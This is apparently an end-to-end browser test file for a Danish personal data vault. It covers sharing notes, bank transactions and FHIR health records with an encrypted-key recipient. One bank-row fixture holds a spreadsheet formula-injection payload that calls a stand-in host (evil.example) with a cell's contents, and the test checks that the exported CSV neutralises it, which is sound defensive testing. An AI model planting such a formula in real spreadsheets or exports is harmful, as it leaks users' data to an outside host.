/**
 * Sharing in real Chromium, as a citizen does it: the vault's key with fingerprint and QR code,
 * a recipient added by pasting their key, the wizard with a note, the approval screen, the
 * bundle downloaded and opened in Node with the recipient's key, the ledger, revoking, and the
 * popup's "who has my data" — with axe on every sharing screen. Then a share of chosen bank
 * transactions: the approval screen names the CSV and OFX copies, and the receiver page, in a
 * separate plain browser, lists them for download with data.json's amounts. Last, a share of
 * health data as imported from a doctor's FHIR file: the approval names the FHIR copy, and the
 * receiver page offers files/health.fhir.json, which the vault's own importer reads back to the
 * values in data.json.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import Papa from 'papaparse';
import { chromium, type Browser, type Page } from 'playwright-core';
import { afterAll, describe, expect, it } from 'vitest';
import { generateIdentity, openBundle, transactionsToOfx } from '../../src/bundle/index';
import { humanFingerprintOf } from '../../src/bundle/keys';
import { parseFhir } from '../../src/importers/health/fhir/parse';
import { da as RECEIVER_DA } from '../../src/receiver-page/i18n/da';
import {
  fhirJsComplaints,
  fhirSchemaErrors,
  HLEDGER_RULES,
  hledgerRead,
  libreofficeRead,
  ofxdumpRead,
  ofxparseRead,
  withFiles,
} from '../unit/support/stock-tools';
import { chromiumPath, type ChromiumSession } from './harness/chromium';
import { addNote, chromiumForThisFile, createVault, DA, keepPagesOnFailure, screenshotPath, text, textCount, expectAccessible } from './harness/vault-ui';
import { reportCleanupFailure } from '../unit/support/cleanup';

const browser = chromiumForThisFile({ bypassCSP: true });
const downloads = mkdtempSync(join(tmpdir(), 'handlerum-share-downloads-'));
const RECEIVER_PAGE = resolve(import.meta.dirname, '../../.output/receiver/index.html');
let session: ChromiumSession;
let page: Page;
const lawyer = generateIdentity();
let plain: Browser | undefined;
keepPagesOnFailure(() => [plain?.contexts()[0]]);
afterAll(async () => {
  await plain?.close().catch(reportCleanupFailure);
  rmSync(downloads, { recursive: true, force: true });
});

const focusedText = (page: Page) => page.evaluate(() => document.activeElement?.textContent ?? '');

/** Opens a bundle file with the lawyer's key on the static receiver page, in a fresh context of a plain browser; returns the page and its files region. */
async function openOnReceiverPage(plainBrowser: Browser, file: string) {
  const receiver = await (await plainBrowser.newContext({ locale: 'da-DK', acceptDownloads: true })).newPage();
  await receiver.goto(pathToFileURL(RECEIVER_PAGE).href);
  await receiver.getByLabel(RECEIVER_DA['form.fileLabel']).setInputFiles(file);
  await receiver.getByLabel(RECEIVER_DA['form.keyLabel']).fill(lawyer.identity);
  await receiver.getByRole('button', { name: RECEIVER_DA['form.submit'] }).click();
  const result = receiver.getByRole('article', { name: RECEIVER_DA['result.title'] });
  await result.waitFor({ timeout: 30_000 });
  return { receiver, result, files: result.getByRole('region', { name: RECEIVER_DA['files.title'] }) };
}

/** Approves the share, downloads the bundle under `prefix` and opens it in Node with the lawyer's key. */
async function approveDownloadAndOpen(page: Page, prefix: string) {
  await page.getByRole('button', { name: DA['sharing.wizard.approveButton'] }).click();
  await page.getByRole('heading', { level: 3, name: DA['sharing.wizard.done'] }).waitFor();
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: DA['sharing.wizard.download'] }).click()]);
  const file = join(downloads, `${prefix}${download.suggestedFilename()}`);
  await download.saveAs(file);
  await page.getByRole('button', { name: DA['sharing.wizard.finish'] }).click();
  const opened = await openBundle(new Uint8Array(readFileSync(file)), { identity: lawyer.identity, now: new Date() });
  if (!opened.ok) throw new Error(`${opened.reason}: ${opened.detail}`);
  return { file, opened };
}

describe('sharing in Chromium', () => {
  it('shares a note with a pasted recipient: approval, download, open with their key, ledger, revoke, popup', async () => {
    session = await browser.launch();
    page = await session.openPage('vault.html');
    await createVault(page, { name: 'Thomas' });
    await addNote(page, 'Kostplan', 'Mindre sukker, mere grønt.');
    await addNote(page, 'Privat dagbog', 'Må ikke deles.');

    await page.getByRole('navigation', { name: DA['header.sections'] }).getByRole('button', { name: DA['section.sharing'] }).click();
    await page.getByRole('heading', { level: 2, name: text(DA, 'sharing.title', { name: 'Thomas' }) }).waitFor();

    // My key: fingerprint in its human form (eight groups of four), a QR code that names itself, no secret on the page.
    const fingerprint = page.locator('p.fingerprint[data-fingerprint]');
    await fingerprint.waitFor();
    const full = (await fingerprint.getAttribute('data-fingerprint'))!;
    expect(full).toMatch(/^[A-Za-z0-9_-]{43}$/);
    expect(await fingerprint.locator('.group').allTextContents()).toEqual(
      humanFingerprintOf(full)
        .split(' ')
        .map((g, i, all) => (i < all.length - 1 ? `${g} ` : g)),
    );
    await page.getByRole('img', { name: DA['sharing.identity.qr'] }).waitFor();
    // One path, a square per dark module.
    expect(((await page.locator('svg.qr path').getAttribute('d')) ?? '').match(/M/g)?.length ?? 0).toBeGreaterThan(100);
    expect(await page.content()).not.toMatch(/AGE-SECRET-KEY/);
    await expectAccessible(page, 'sharing overview');
    await page.screenshot({ path: screenshotPath('sharing-overview-da'), fullPage: true });

    // A recipient, added by pasting their age key.
    await page.getByLabel(DA['sharing.recipients.pasteLabel']).fill(lawyer.recipient);
    await page.getByLabel(DA['sharing.recipients.nameLabel']).fill('Advokat Jensen');
    await page.getByRole('button', { name: DA['sharing.recipients.add'] }).click();
    await page.getByRole('heading', { level: 4, name: 'Advokat Jensen' }).waitFor();

    // The wizard, step by step; focus moves to each step's heading.
    await page.getByRole('button', { name: DA['sharing.start'] }).click();
    await page.getByRole('heading', { level: 3, name: DA['sharing.wizard.recipient'] }).waitFor();
    await expect.poll(() => focusedText(page)).toBe(DA['sharing.wizard.recipient']);
    await page.getByLabel(/Advokat Jensen/).check();
    await expectAccessible(page, 'wizard: recipient');
    await page.getByRole('button', { name: DA['sharing.wizard.next'] }).click();

    await page.getByRole('heading', { level: 3, name: DA['sharing.wizard.purpose'] }).waitFor();
    await expect.poll(() => focusedText(page)).toBe(DA['sharing.wizard.purpose']);
    await page.getByRole('button', { name: DA['sharing.wizard.next'] }).click();
    await page.getByText(DA['sharing.wizard.purposeMissing']).waitFor();
    await expectAccessible(page, 'wizard: purpose with an error');
    await page.getByLabel(DA['sharing.wizard.purposeLabel']).fill('Hjælp til madbudget');
    await page.getByRole('button', { name: DA['sharing.wizard.next'] }).click();

    await page.getByRole('heading', { level: 3, name: DA['sharing.wizard.data'] }).waitFor();
    await page.getByLabel('Kostplan').check();
    await expectAccessible(page, 'wizard: data');
    await page.getByRole('button', { name: DA['sharing.wizard.next'] }).click();

    await page.getByRole('heading', { level: 3, name: DA['sharing.wizard.expiry'] }).waitFor();
    const lastDay = new Date(Date.now() + 20 * 86_400_000).toISOString().slice(0, 10);
    await page.getByLabel(DA['sharing.wizard.expiryDateLabel']).fill(lastDay);
    await expectAccessible(page, 'wizard: expiry');
    await page.getByRole('button', { name: DA['sharing.wizard.next'] }).click();

    // The approval screen lists exactly what leaves, in plain words.
    await page.getByRole('heading', { level: 3, name: DA['sharing.wizard.approve'] }).waitFor();
    const items = page.locator('ul.approval-items li');
    await expect.poll(() => items.allTextContents()).toEqual([text(DA, 'sharing.item.note', { label: 'Kostplan' })]);
    await page.getByText('Hjælp til madbudget').waitFor();
    await expectAccessible(page, 'wizard: approval');
    await page.screenshot({ path: screenshotPath('sharing-approval-da'), fullPage: true });
    await page.getByRole('button', { name: DA['sharing.wizard.approveButton'] }).click();

    await page.getByRole('heading', { level: 3, name: DA['sharing.wizard.done'] }).waitFor();
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: DA['sharing.wizard.download'] }).click()]);
    expect(download.suggestedFilename()).toMatch(/^handlerum-deling-\d{4}-\d{2}-\d{2}\.hrbundle$/);
    const file = join(downloads, download.suggestedFilename());
    await download.saveAs(file);
    await page.getByRole('status').filter({ hasText: DA['sharing.delivery.ok.download'] }).waitFor();
    await expectAccessible(page, 'wizard: done');

    // The bundle opens in Node with the recipient's key, and holds the one approved note only.
    const opened = await openBundle(new Uint8Array(readFileSync(file)), { identity: lawyer.identity, now: new Date() });
    if (!opened.ok) throw new Error(`${opened.reason}: ${opened.detail}`);
    expect(opened.manifest.issuer.name).toBe('Thomas');
    expect(opened.manifest.purpose.text.da).toBe('Hjælp til madbudget');
    expect(opened.manifest.expiresAt.slice(0, 10)).toBe(lastDay);
    expect(opened.data).toEqual({ notes: [expect.objectContaining({ title: 'Kostplan', body: 'Mindre sukker, mere grønt.' })] });
    expect(JSON.stringify(opened)).not.toContain('dagbog');

    // The ledger shows it active; the popup's "who has my data" lists it.
    await page.getByRole('button', { name: DA['sharing.wizard.finish'] }).click();
    const ledger = page.getByRole('list', { name: DA['sharing.grants.listLabel'] });
    const grant = ledger.getByRole('listitem').filter({ hasText: 'Advokat Jensen' }).first();
    await grant.getByText(DA['sharing.grants.status.active'], { exact: true }).waitFor();
    await page
      .getByRole('list', { name: DA['sharing.log.listLabel'] })
      .getByText(text(DA, 'sharing.log.type.share', { recipient: 'Advokat Jensen', purpose: 'Hjælp til madbudget' }))
      .waitFor();

    const popup = await session.openPage('popup.html');
    await popup.getByRole('button', { name: DA['popup.whoHas'] }).click();
    await popup.getByRole('heading', { name: DA['popup.whoHasHeading'] }).waitFor();
    await popup.getByText(/Advokat Jensen har Noten „Kostplan“/).waitFor();
    await expectAccessible(popup, 'popup: who has my data');
    await popup.close();

    // Revoke, with the honest explanation; the ledger says revoked, and since the lawyer got a file,
    // the popup lists them apart: they still hold a copy, though the share has ended.
    await grant.getByRole('button', { name: DA['sharing.grants.revoke'] }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByText(text(DA, 'sharing.grants.revokeConfirm', { name: 'Advokat Jensen' })).waitFor();
    await expectAccessible(page, 'revoke confirmation');
    await dialog.getByRole('button', { name: DA['sharing.grants.revoke'] }).click();
    await page
      .getByRole('status')
      .filter({ hasText: text(DA, 'sharing.grants.revokedNoEndpoint', { name: 'Advokat Jensen' }) })
      .waitFor();
    await grant.getByText(DA['sharing.grants.status.revoked'], { exact: true }).waitFor();

    await page.getByRole('button', { name: DA['sharing.log.verify'] }).click();
    await page
      .getByRole('status')
      .filter({ hasText: textCount(DA, 'sharing.log.valid', 2) })
      .waitFor();
    await expectAccessible(page, 'sharing after revoking');

    const popupAfter = await session.openPage('popup.html');
    await popupAfter.getByRole('button', { name: DA['popup.whoHas'] }).click();
    await popupAfter.getByRole('heading', { name: DA['popup.whoHasEndedHeading'] }).waitFor();
    await popupAfter.getByText(/Advokat Jensen har stadig en kopi af Noten „Kostplan“/).waitFor();
    expect(await popupAfter.getByText(DA['popup.whoHasNone']).count()).toBe(0);
    await popupAfter.close();
  });

  it('shares chosen bank transactions: the approval names the CSV and OFX copies, the receiver page offers them with the same amounts', async () => {
    // Rows from last month, as Danske Bank exports them (Windows-1252, ; and decimal comma), with
    // texts a third party wrote (a formula, a MobilePay message), over a million and a zero.
    const now = new Date();
    const month = new Date(Date.UTC(now.getUTCFullYear(), now.getUTCMonth() - 1, 1));
    const day = (d: number) => `${String(d).padStart(2, '0')}.${String(month.getUTCMonth() + 1).padStart(2, '0')}.${month.getUTCFullYear()}`;
    const iso = (d: number) => `${month.toISOString().slice(0, 8)}${String(d).padStart(2, '0')}`;
    const ROWS = [
      { d: 4, text: 'Føtex Vesterbro', amount: '-845,50', ore: -84_550 },
      { d: 9, text: 'Løn og kontanthjælp', amount: '11.800,00', ore: 1_180_000 },
      { d: 17, text: 'Netto Østerbro', amount: '-612,25', ore: -61_225 },
      { d: 18, text: '=HYPERLINK("https://evil.example/?"&A1;"Klik")', amount: '-0,00', ore: 0 },
      { d: 19, text: '+45 MobilePay fra Søren; "tak"', amount: '1.250.000,00', ore: 125_000_000 },
    ];
    const csv = [
      '"Dato";"Tekst";"Beløb";"Saldo";"Status";"Afstemt"',
      ...ROWS.map((r, i) => `"${day(r.d)}";"${r.text.replace(/"/g, '""')}";"${r.amount}";"${20_000 + i},00";"Udført";"Nej"`),
    ].join('\r\n');
    await page.getByRole('navigation', { name: DA['header.sections'] }).getByRole('button', { name: DA['section.money'] }).click();
    await page
      .getByLabel(DA['money.import.fileLabel'])
      .setInputFiles({ name: 'danske-bank.csv', mimeType: 'text/csv', buffer: Buffer.from(`${csv}\r\n`, 'latin1') });
    await page.getByRole('heading', { name: DA['money.preview.heading'] }).waitFor({ timeout: 60_000 });
    await page.getByRole('button', { name: textCount(DA, 'money.preview.import', ROWS.length) }).click();
    await page
      .locator('.money-import [role="status"]')
      .filter({ hasText: text(DA, 'money.import.done.other', { count: ROWS.length, account: 'Danske Bank' }) })
      .waitFor({ timeout: 60_000 });
    // A second account, from a bank file that names it by its IBAN.
    const IBAN = 'DK5000400440116243';
    const OTHER = [
      { d: 5, text: 'Overførsel; "husleje"', ore: -650_000 },
      { d: 12, text: '@Lønkonto Ærø', ore: 2_500_000 },
    ];
    const ofxFile = transactionsToOfx(
      OTHER.map((r) => ({ date: iso(r.d), amountMinor: r.ore, currency: 'DKK', text: r.text, account: IBAN })),
      { now: new Date() },
    );
    await page
      .getByLabel(DA['money.import.fileLabel'])
      .setInputFiles({ name: 'loenkonto.ofx', mimeType: 'application/x-ofx', buffer: Buffer.from(ofxFile, 'utf8') });
    await page.getByRole('heading', { name: DA['money.preview.heading'] }).waitFor({ timeout: 60_000 });
    await page.getByRole('button', { name: textCount(DA, 'money.preview.import', OTHER.length) }).click();
    await page
      .locator('.money-import [role="status"]')
      .filter({ hasText: textCount(DA, 'money.import.done', OTHER.length, { account: 'DK50 0040 0440 1162 43' }) })
      .waitFor({ timeout: 60_000 });
    /** Every shared row in data.json's order (by date), with the account it names: the number, or the name of an account without one. */
    const ALL = [...ROWS.map((r) => ({ ...r, account: 'Danske Bank' })), ...OTHER.map((r) => ({ ...r, account: IBAN }))].sort((a, b) => a.d - b.d);
    /** The same rows as the OFX copy lists them: account by account (Danske Bank's first row comes first). */
    const BY_ACCOUNT = ['Danske Bank', IBAN].flatMap((account) => ALL.filter((r) => r.account === account));

    await page.getByRole('navigation', { name: DA['header.sections'] }).getByRole('button', { name: DA['section.sharing'] }).click();
    await page.getByRole('button', { name: DA['sharing.start'] }).click();
    await page.getByLabel(/Advokat Jensen/).check();
    await page.getByRole('button', { name: DA['sharing.wizard.next'] }).click();
    await page.getByLabel(DA['sharing.wizard.purposeLabel']).fill('Gennemgang af økonomien');
    await page.getByRole('button', { name: DA['sharing.wizard.next'] }).click();
    await page.getByRole('checkbox', { name: DA['sharing.wizard.transactions'], exact: true }).check();
    await page.getByRole('checkbox', { name: DA['sharing.field.text'], exact: true }).check();
    await page.getByRole('checkbox', { name: DA['sharing.field.account'], exact: true }).check();
    await page.getByRole('button', { name: DA['sharing.wizard.next'] }).click();
    await page.getByLabel(DA['sharing.wizard.expiryDateLabel']).fill(new Date(Date.now() + 20 * 86_400_000).toISOString().slice(0, 10));
    await page.getByRole('button', { name: DA['sharing.wizard.next'] }).click();

    // The approval names the copies as well as the rows, and that the account goes with them.
    await page.getByRole('heading', { level: 3, name: DA['sharing.wizard.approve'] }).waitFor();
    await page
      .locator('ul.approval-items li')
      .filter({ hasText: new RegExp(`^${ALL.length} posteringer`) })
      .filter({ hasText: DA['sharing.field.account'] })
      .waitFor();
    await expect
      .poll(() => page.locator('ul.approval-copies li').allTextContents())
      .toEqual([text(DA, 'sharing.copy.csv', { name: 'transactions.csv' }), text(DA, 'sharing.copy.ofx', { name: 'transactions.ofx' })]);
    await expectAccessible(page, 'wizard: approval with copies');
    const { file, opened } = await approveDownloadAndOpen(page, 'tx-');
    const [entry] = opened.data.transactions as { accounts: unknown[]; rows: { date: string; amountMinor: number; text: string; account: string }[] }[];
    expect(entry!.rows.map((r) => ({ ...r, amountMinor: r.amountMinor + 0 }))).toEqual(
      ALL.map((r) => ({ date: iso(r.d), amountMinor: r.ore, currency: 'DKK', text: r.text, account: r.account })),
    );
    expect(entry!.accounts).toEqual([
      { id: 'Danske Bank', name: 'Danske Bank' },
      { id: IBAN, name: 'DK50 0040 0440 1162 43', number: IBAN },
    ]);

    // The receiver page, in a plain browser: the copies are listed and come back byte for byte.
    plain = await chromium.launch({ executablePath: chromiumPath(), headless: true, args: ['--headless=new', '--no-sandbox', '--disable-gpu'] });
    const { receiver, files } = await openOnReceiverPage(plain, file);
    const links = await files.getByRole('link').allTextContents();
    expect(links).toEqual(['data.json', 'transactions.csv', 'transactions.ofx'].map((name) => RECEIVER_DA['files.download'].replace('{name}', name)));
    await files.getByText(RECEIVER_DA['files.kind.transactions.csv'], { exact: false }).waitFor();
    for (const name of ['transactions.csv', 'transactions.ofx']) {
      const [got] = await Promise.all([
        receiver.waitForEvent('download'),
        files.getByRole('link', { name: RECEIVER_DA['files.download'].replace('{name}', name) }).click(),
      ]);
      expect(got.suggestedFilename()).toBe(name);
      const bytes = readFileSync((await got.path())!);
      expect(new Uint8Array(bytes)).toEqual(opened.files.find((f) => f.path === `files/${name}`)!.bytes);
      if (name === 'transactions.csv') {
        expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
        const parsed = Papa.parse<Record<string, string>>(bytes.toString('utf8').slice(1).trim(), { header: true, delimiter: ';' });
        // A text a spreadsheet would take for a formula is marked as text; the exact one is in data.json.
        expect(parsed.data.map((r) => [r.date, r.amount, r.text, r.account])).toEqual(
          ALL.map((r) => [iso(r.d), (r.ore / 100).toFixed(2).replace('.', ','), /^[=+@]/.test(r.text) ? `'${r.text}` : r.text, r.account]),
        );
        // The tools receivers use read the downloaded file: hledger with a rules file, LibreOffice with the Danish filter.
        const ledger = withFiles({ 't.csv': bytes, 't.rules': HLEDGER_RULES }, (dir) => hledgerRead(join(dir, 't.csv'), join(dir, 't.rules')));
        expect([ledger.status, ledger.stderr]).toEqual([0, '']);
        expect(ledger.rows.map((r) => r.ore)).toEqual(ALL.map((r) => r.ore));
        const sheet = withFiles({ 't.csv': bytes }, (dir) => libreofficeRead(join(dir, 't.csv'))).slice(1);
        expect(sheet.flat().filter((c) => c.formula !== null)).toEqual([]);
        expect(sheet.map((r) => [r[0]!.type, r[2]!.type, Math.round(Number(r[2]!.value) * 100), r[9]!.text])).toEqual(
          ALL.map((r) => ['date', 'float', r.ore, r.account]),
        );
      } else {
        expect(bytes.toString('utf8').match(/<TRNAMT>[^<]+<\/TRNAMT>/g)).toEqual(BY_ACCOUNT.map((r) => `<TRNAMT>${(r.ore / 100).toFixed(2)}</TRNAMT>`));
        // python3-ofxparse and libofx's ofxdump read every account and every row with its exact text.
        const [parsed, dumped] = withFiles({ 't.ofx': bytes }, (dir) => [ofxparseRead(join(dir, 't.ofx')), ofxdumpRead(join(dir, 't.ofx'))] as const);
        expect(parsed.map((t) => [t.account, t.memo, Math.round(Number(t.amount) * 100)])).toEqual(BY_ACCOUNT.map((r) => [r.account, r.text, r.ore]));
        expect([dumped.status, dumped.complaints]).toEqual([0, []]);
        expect(dumped.rows.map((t) => [t.account, t.memo])).toEqual(BY_ACCOUNT.map((r) => [r.account, r.text]));
      }
    }
    await receiver.screenshot({ path: screenshotPath('sharing-receiver-transactions-da'), fullPage: true });
  });

  it('shares health data from a doctor’s file: the approval names the FHIR copy, the receiver page offers it, and it reads back', async () => {
    const daysAgo = (n: number) => new Date(Date.now() - n * 86_400_000).toISOString().slice(0, 10);
    const journal = {
      resourceType: 'Bundle',
      type: 'collection',
      entry: [
        {
          resource: {
            resourceType: 'Observation',
            id: 'hba1c-1',
            status: 'final',
            code: {
              coding: [{ system: 'http://loinc.org', code: '59261-8', display: 'Hemoglobin A1c/Hemoglobin.total in Blood' }],
              text: 'HbA1c (IFCC); "æøå"',
            },
            effectiveDateTime: daysAgo(10),
            valueQuantity: { value: 48, unit: 'mmol/mol' },
          },
        },
        {
          resource: {
            resourceType: 'Condition',
            id: 'cond-1',
            clinicalStatus: { coding: [{ code: 'active' }] },
            code: { text: 'Type 2-diabetes' },
            onsetDateTime: '2019-04-01',
          },
        },
        {
          resource: {
            resourceType: 'MedicationStatement',
            id: 'med-1',
            status: 'active',
            medicationCodeableConcept: { text: 'Metformin 500 mg' },
            dosage: [{ text: '1 tablet morgen og aften' }],
          },
        },
        {
          resource: {
            resourceType: 'AllergyIntolerance',
            id: 'all-1',
            clinicalStatus: { coding: [{ code: 'active' }] },
            code: { text: 'Penicillin' },
            reaction: [{ manifestation: [{ text: 'Udslæt' }] }],
          },
        },
        {
          resource: {
            resourceType: 'Immunization',
            id: 'imm-1',
            status: 'completed',
            vaccineCode: { text: 'Influenzavaccine' },
            occurrenceDateTime: daysAgo(40),
          },
        },
      ],
    };
    await page.getByRole('navigation', { name: DA['header.sections'] }).getByRole('button', { name: DA['section.health'] }).click();
    await page
      .getByLabel(DA['health.import.fileLabel'])
      .setInputFiles({ name: 'journal.json', mimeType: 'application/fhir+json', buffer: Buffer.from(JSON.stringify(journal)) });
    await page
      .getByRole('region', { name: /^Fundet i / })
      .getByRole('button', { name: DA['health.summary.save'] })
      .click();
    await page.getByText(text(DA, 'health.import.saved', { file: 'journal.json' })).waitFor({ timeout: 60_000 });

    await page.getByRole('navigation', { name: DA['header.sections'] }).getByRole('button', { name: DA['section.sharing'] }).click();
    await page.getByRole('button', { name: DA['sharing.start'] }).click();
    await page.getByLabel(/Advokat Jensen/).check();
    await page.getByRole('button', { name: DA['sharing.wizard.next'] }).click();
    await page.getByLabel(DA['sharing.wizard.purposeLabel']).fill('Kontrol hos lægen');
    await page.getByRole('button', { name: DA['sharing.wizard.next'] }).click();
    await page.getByRole('checkbox', { name: DA['sharing.wizard.healthRecordsToggle'] }).check();
    // Nothing chosen yet inside it: the wizard says so rather than making an empty share.
    await page.getByRole('button', { name: DA['sharing.wizard.next'] }).click();
    await page.getByRole('alert').filter({ hasText: DA['sharing.wizard.healthRecordsMissing'] }).waitFor();
    await page.getByRole('checkbox', { name: text(DA, 'sharing.wizard.healthObservations', { count: 1 }) }).check();
    for (const kind of ['Condition', 'MedicationStatement', 'AllergyIntolerance'] as const) {
      await page.getByRole('checkbox', { name: text(DA, `sharing.wizard.clinical.${kind}`, { count: 1 }) }).check();
    }
    await expectAccessible(page, 'wizard: health data as imported');
    await page.getByRole('button', { name: DA['sharing.wizard.next'] }).click();
    await page.getByLabel(DA['sharing.wizard.expiryDateLabel']).fill(new Date(Date.now() + 20 * 86_400_000).toISOString().slice(0, 10));
    await page.getByRole('button', { name: DA['sharing.wizard.next'] }).click();

    await page.getByRole('heading', { level: 3, name: DA['sharing.wizard.approve'] }).waitFor();
    await page
      .locator('ul.approval-items li')
      .filter({ hasText: /^Sundhedsdata .*1 måling fra læge eller hospital; 3 journaloplysninger \(diagnoser, medicin, allergier\)$/ })
      .waitFor();
    await expect.poll(() => page.locator('ul.approval-copies li').allTextContents()).toEqual([text(DA, 'sharing.copy.fhir', { name: 'health.fhir.json' })]);
    await expectAccessible(page, 'wizard: approval with the FHIR copy');
    const { file, opened } = await approveDownloadAndOpen(page, 'health-');
    const [entry] = opened.data.healthRecords as { clinical: { title: string; resourceType: string }[]; observations: { id: string; value: unknown }[] }[];
    expect(entry!.clinical.map((c) => c.title)).toEqual(['Type 2-diabetes', 'Metformin 500 mg', 'Penicillin']);
    expect(JSON.stringify(opened.data)).not.toContain('Influenzavaccine');

    const { receiver, files } = await openOnReceiverPage(plain!, file);
    expect(await files.getByRole('link').allTextContents()).toEqual(
      ['data.json', 'health.fhir.json'].map((name) => RECEIVER_DA['files.download'].replace('{name}', name)),
    );
    await files.getByText(RECEIVER_DA['files.kind.health.fhir.json'], { exact: false }).waitFor();
    const [got] = await Promise.all([
      receiver.waitForEvent('download'),
      files.getByRole('link', { name: RECEIVER_DA['files.download'].replace('{name}', 'health.fhir.json') }).click(),
    ]);
    expect(got.suggestedFilename()).toBe('health.fhir.json');
    const bytes = readFileSync((await got.path())!);
    expect(new Uint8Array(bytes)).toEqual(opened.files.find((f) => f.path === 'files/health.fhir.json')!.bytes);
    // The official FHIR R4 JSON schema and FHIR.js accept the downloaded file.
    const downloaded = JSON.parse(bytes.toString('utf8')) as Record<string, unknown>;
    expect(fhirSchemaErrors(downloaded)).toEqual([]);
    expect(fhirJsComplaints(downloaded)).toEqual({ valid: true, complaints: [] });
    // The doctor's own words for the HbA1c, as the doctor's system wrote them.
    const hba1c = (downloaded.entry as { resource: { id: string; code: unknown } }[]).find((e) => e.resource.id === 'hba1c-1')!;
    expect(hba1c.resource.code).toEqual(journal.entry[0]!.resource.code);
    const back = parseFhir(bytes.toString('utf8'));
    expect(back.issues).toEqual([]);
    expect(back.clinical.map((c) => [c.resourceType, c.title])).toEqual(entry!.clinical.map((c) => [c.resourceType, c.title]));
    expect(back.observations.map((o) => [o.id, o.value])).toEqual(entry!.observations.map((o) => [o.id, o.value]));
    await receiver.screenshot({ path: screenshotPath('sharing-receiver-health-da'), fullPage: true });
  });
});
